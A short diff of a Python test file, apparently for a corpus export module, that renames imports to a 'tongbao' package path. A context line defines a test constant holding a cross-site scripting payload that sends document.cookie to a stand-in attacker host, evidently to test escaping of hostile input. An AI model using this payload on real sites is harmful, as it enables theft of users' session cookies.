@@ -7,8 +7,8 @@ from __future__ import annotations
 import csv
 import json
 
-from corpus import Corpus
-from corpus.export import export_corpus
+from tongbao.corpus import Corpus
+from tongbao.corpus.export import export_corpus
 from tests.test_corpus_records import make_record
 
 SCRIPT = '<script>fetch("http://evil.example/"+document.cookie)</script>'
